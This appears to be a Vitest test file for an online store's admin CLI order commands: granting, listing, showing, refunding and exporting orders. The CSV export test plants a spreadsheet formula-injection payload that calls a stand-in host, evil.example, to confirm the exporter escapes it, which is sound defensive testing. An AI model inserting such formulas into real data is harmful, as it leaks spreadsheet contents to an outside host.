import { sql } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseCsv, unescapeFormula } from '../../src/platform/lib/csv'
import type { OrderEvent } from '../../src/selling/orders/order-event'
import { createMember } from '../support/factories'
import { signIn } from '../support/inject'
import { startTestServer, type TestServer } from '../support/test-app'
import { createAdminCli } from './admin-cli'

let server: TestServer
let cli: ReturnType<typeof createAdminCli>

beforeAll(async () => {
  server = await startTestServer()
  cli = createAdminCli(server.database)
})
afterAll(() => server.close())

const signInAnswer = async (email: string, password: string) => {
  const response = await server.app.inject({
    method: 'POST',
    url: '/v1/account/sessions/email',
    payload: { email, password },
  })
  const body = response.json<{ type?: string; reason?: string }>()
  return { status: response.statusCode, type: body.type, reason: body.reason }
}
const me = (cookie: string) => server.app.inject({ method: 'GET', url: '/v1/account', headers: { cookie } })
const queuedFor = (orderId: string) =>
  server.database.rows(sql`SELECT kind, language FROM email_queue WHERE order_id = ${orderId}`)
const grantedId = (out: string) => /^Granted order (\S+) to /.exec(out)?.[1] ?? ''

/** A Stripe purchase as the webhook delivers it, through the same service. */
const stripePaid = (orderId: string, email: string, overrides: Partial<OrderEvent> = {}) =>
  server.app.orders.receive({
    provider: 'stripe',
    eventId: `evt_paid_${orderId}`,
    type: 'checkout.session.completed',
    orderId,
    status: 'paid',
    occurredAt: new Date(),
    buyer: { email, name: 'Comprador' },
    amount: 2500,
    currency: 'USD',
    product: 'Projects Gallery Bundle',
    ...overrides,
  })

describe('orders grant', () => {
  it('makes a new buyer a member and queues their welcome email, in their language', async () => {
    const result = await cli.run(
      'orders',
      'grant',
      'nueva@example.com',
      '--name',
      'Nueva',
      '--note',
      'Transferencia 123',
      '--lang',
      'en',
    )
    expect(result).toMatchObject({ code: 0, err: '' })
    expect(result.out).toContain(
      'to nueva@example.com. New member created; a welcome email with a link to choose their password is queued.',
    )
    const id = grantedId(result.out)
    expect(await queuedFor(id)).toEqual([{ kind: 'welcome', language: 'en' }])
    expect((await cli.run('users', 'list')).out).toMatch(/nueva@example\.com\s+Nueva\s+enabled/)

    const shown = JSON.parse((await cli.run('orders', 'show', id, '--json')).out) as Record<string, unknown>
    expect(shown).toMatchObject({
      id,
      provider: 'manual',
      status: 'paid',
      email: 'nueva@example.com',
      name: 'Nueva',
      note: 'Transferencia 123',
      language: 'en',
      events: [{ type: 'granted by the owner', status: 'paid' }],
    })
  })

  it('to an existing member queues a purchase email and leaves their password alone', async () => {
    const member = await createMember(server.database)
    const result = await cli.run('orders', 'grant', member.email)
    expect(result.code).toBe(0)
    expect(result.out).toContain('Already a member (password unchanged); a purchase email is queued.')
    expect(await queuedFor(grantedId(result.out))).toEqual([{ kind: 'purchase', language: 'es' }])
    expect(await signInAnswer(member.email, member.password)).toMatchObject({ status: 201 })
  })

  it('refuses a malformed email or language as bad input (exit 2)', async () => {
    expect(await cli.run('orders', 'grant', 'not-an-email')).toMatchObject({
      code: 2,
      err: '--email: Invalid email address\n',
    })
    expect((await cli.run('orders', 'grant', 'a@example.com', '--lang', 'fr')).code).toBe(2)
    expect((await cli.run('orders', 'grant')).err).toMatch(/missing required argument 'email'/)
  })
})

describe('orders list and show', () => {
  it('lists orders newest first as a table with formatted amounts, filtered, and as JSON', async () => {
    await stripePaid('cs_list_usd', 'usd@example.com')
    await stripePaid('cs_list_eur', 'eur@example.com', { amount: 1990, currency: 'EUR' })
    await stripePaid('cs_list_jpy', 'jpy@example.com', { amount: 3000, currency: 'JPY' })
    const table = (await cli.run('orders', 'list')).out
    const [heading, ...lines] = table.trimEnd().split('\n')
    expect(heading).toMatch(/^ID\s+DATE\s+STATUS\s+PROVIDER\s+EMAIL\s+AMOUNT\s+PRODUCT$/)
    expect(lines[0]).toMatch(
      /\d{4}-\d\d-\d\d\s+paid\s+stripe\s+jpy@example\.com\s+¥3,000\s+Projects Gallery Bundle/,
    )
    expect(table).toMatch(/eur@example\.com\s+€19\.90\s/)
    expect(table).toMatch(/usd@example\.com\s+\$25\.00\s/)
    const count = Number(/^(\d+) orders\.$/m.exec(table)?.[1])
    expect(count).toBe(lines.length - 1)

    const stripe = JSON.parse((await cli.run('orders', 'list', '--provider', 'stripe', '--json')).out) as {
      providerOrderId: string
      amount: number
    }[]
    expect(stripe.map((order) => order.providerOrderId)).toEqual([
      'cs_list_jpy',
      'cs_list_eur',
      'cs_list_usd',
    ])
    expect(stripe[2]).toMatchObject({ amount: 2500, currency: 'USD', status: 'paid' })
    const manual = await cli.run('orders', 'list', '--provider', 'manual')
    expect(manual.out).not.toContain('stripe')
    expect((await cli.run('orders', 'list', '--status', 'canceled')).out).toBe('No orders.\n')
    expect((await cli.run('orders', 'list', '--status', 'sold')).code).toBe(2)
    expect((await cli.run('orders', 'list', '--provider', 'paypal')).code).toBe(2)
  })

  it('shows an order with its events; an unknown id is refused', async () => {
    const { order } = await stripePaid('cs_show', 'show@example.com')
    await server.app.orders.receive({
      provider: 'stripe',
      eventId: 'evt_refund_show',
      type: 'charge.refunded',
      orderId: 'cs_show',
      status: 'refunded',
      occurredAt: new Date(),
    })
    const shown = await cli.run('orders', 'show', order.id)
    expect(shown.code).toBe(0)
    expect(shown.out).toMatch(/^Order:\s+\S+\nStatus:\s+refunded\n/)
    expect(shown.out).toContain('stripe (order cs_show)')
    expect(shown.out).toMatch(/Buyer:\s+Comprador <show@example\.com>/)
    expect(shown.out).toMatch(/Amount:\s+\$25\.00/)
    expect(shown.out).toMatch(
      /Access:\s+ended\n\nEvents:\nTIME\s+TYPE\s+STATUS\s+ACCESS\n\S+\s+checkout\.session\.completed\s+paid\s+granted\n\S+\s+charge\.refunded\s+refunded\s+ended\n$/,
    )

    for (const command of ['show', 'refund']) {
      expect(await cli.run('orders', command, 'nope')).toEqual({
        code: 1,
        out: '',
        err: 'No order has the id nope.\n',
      })
    }
    expect((await cli.run('orders', 'show', ' ')).code).toBe(2)
  })
})

describe('orders refund', () => {
  it('ends the buyer’s access: sessions end, sign-in says why; a second refund is refused; enable restores', async () => {
    const member = await createMember(server.database)
    const id = grantedId((await cli.run('orders', 'grant', member.email)).out)
    const first = await signIn(server, member)
    await signIn(server, member)

    const refunded = await cli.run('orders', 'refund', id)
    expect(refunded).toEqual({
      code: 0,
      out: `Order ${id} recorded as refunded: access of ${member.email} ended; 2 sessions ended.\n`,
      err: '',
    })
    expect((await me(first.cookie)).statusCode).toBe(401)
    expect(await signInAnswer(member.email, member.password)).toEqual({
      status: 401,
      type: 'user_blocked',
      reason: 'refunded',
    })
    expect((await cli.run('users', 'list')).out).toMatch(
      new RegExp(`${member.email}\\s+\\S.*\\s+blocked \\(refunded\\)\\s+0`),
    )
    const again = await cli.run('orders', 'refund', id)
    expect(again).toMatchObject({ code: 1, out: '' })
    expect(again.err).toContain('is refunded: only a paid or disputed order can be refunded')

    expect((await cli.run('users', 'enable', member.email)).out).toBe(
      `Enabled ${member.email}: they can sign in again (they were blocked: refunded).\n`,
    )
    expect(await signInAnswer(member.email, member.password)).toMatchObject({ status: 201 })
  })

  it('leaves access to a member who holds another paid order', async () => {
    const member = await createMember(server.database)
    const first = grantedId((await cli.run('orders', 'grant', member.email)).out)
    await cli.run('orders', 'grant', member.email)
    expect((await cli.run('orders', 'refund', first)).out).toBe(
      `Order ${first} recorded as refunded; ${member.email} keeps access through another paid order.\n`,
    )
    expect(await signInAnswer(member.email, member.password)).toMatchObject({ status: 201 })
  })
})

describe('orders grant-ignored', () => {
  it('grants an order the store ignored, at the buyer’s corrected address; show and list say what each did', async () => {
    const { order } = await stripePaid('cs_ignored', 'ana@example.com, otro@example.com')
    const shown = await cli.run('orders', 'show', order.id)
    expect(shown.out).toMatch(/Access:\s+ignored: its buyer email is not one valid address\n/)
    expect((await cli.run('orders', 'list', '--access', 'ignored')).out).toContain(order.id)
    expect((await cli.run('orders', 'list', '--access', 'lost')).code).toBe(2)

    const refused = await cli.run('orders', 'grant-ignored', order.id)
    expect(refused).toMatchObject({ code: 1, out: '' })
    expect(refused.err).toContain('has no valid buyer email')
    const granted = await cli.run('orders', 'grant-ignored', order.id, '--email', 'ana.bien@example.com')
    expect(granted).toEqual({
      code: 0,
      out: `Granted order ${order.id} to ana.bien@example.com: New member created; a welcome email with a link to choose their password is queued.\n`,
      err: '',
    })
    expect(await queuedFor(order.id)).toEqual([{ kind: 'welcome', language: 'es' }])
    expect((await cli.run('orders', 'show', order.id)).out).toMatch(
      /Access:\s+granted\n[\s\S]*checkout\.session\.completed\s+paid\s+ignored: its buyer email[^\n]*\n\S+\s+access granted by the owner\s+paid\s+granted\n$/,
    )
    expect((await cli.run('orders', 'grant-ignored', order.id)).code).toBe(1)
  })

  it('says what kept access when a refunded order was not what held it', async () => {
    const member = await createMember(server.database)
    await cli.run('users', 'label', 'add', member.email, 'admin')
    const id = grantedId((await cli.run('orders', 'grant', member.email)).out)
    expect((await cli.run('orders', 'refund', id)).out).toBe(
      `Order ${id} recorded as refunded; ${member.email} keeps access through the admin label.\n`,
    )
    expect(await signInAnswer(member.email, member.password)).toMatchObject({ status: 201 })
  })
})

describe('orders export', () => {
  it('writes every order as CSV, formulas escaped, and reads back unchanged', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Ver")'
    const id = grantedId(
      (await cli.run('orders', 'grant', 'formula@example.com', '--name', name, '--note', '+1, "dos"')).out,
    )
    const written = await cli.run('orders', 'export', '--format', 'csv', '-o', 'orders.csv')
    expect(written).toEqual({ code: 0, out: '', err: 'Wrote orders.csv\n' })
    const text = cli.files.get('orders.csv') ?? ''
    expect((await cli.run('orders', 'export')).out).toBe(text)

    const [header, ...rows] = parseCsv(text)
    expect(header).toEqual([
      'id',
      'provider',
      'provider_order_id',
      'status',
      'email',
      'name',
      'product',
      'amount',
      'currency',
      'purchased_at',
      'created_at',
      'note',
    ])
    const orders = JSON.parse((await cli.run('orders', 'list', '--json')).out) as { id: string }[]
    expect(rows.map((row) => row[0])).toEqual(orders.map((order) => order.id))
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")",`)

    const granted = rows.find((row) => row[0] === id) ?? []
    expect(granted.slice(0, 6).map(unescapeFormula)).toMatchObject([
      id,
      'manual',
      expect.any(String),
      'paid',
      'formula@example.com',
      name,
    ])
    expect(unescapeFormula(granted[11] ?? '')).toBe('+1, "dos"')
    expect(granted[9]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}\+00:00$/)
    const usd = rows.find((row) => row[4] === 'usd@example.com') ?? []
    expect([usd[7], usd[8]]).toEqual(['25.00', 'USD'])
    const jpy = rows.find((row) => row[4] === 'jpy@example.com') ?? []
    expect([jpy[7], jpy[8]]).toEqual(['3000', 'JPY'])

    expect((await cli.run('orders', 'export', '--format', 'json')).code).toBe(2)
  })
})

it('every orders command has --help', async () => {
  const top = await cli.run('orders', '--help')
  expect(top.code).toBe(0)
  for (const command of ['list', 'show', 'grant', 'refund', 'export']) {
    expect(top.out).toContain(command)
    const help = await cli.run('orders', command, '--help')
    expect(help.code, command).toBe(0)
    expect(help.out).toContain(`Usage: npm run admin -- orders ${command}`)
  }
  expect((await cli.run('orders', 'grant', '--help')).out).toMatch(/--note <text>[\s\S]*--lang <language>/)
})
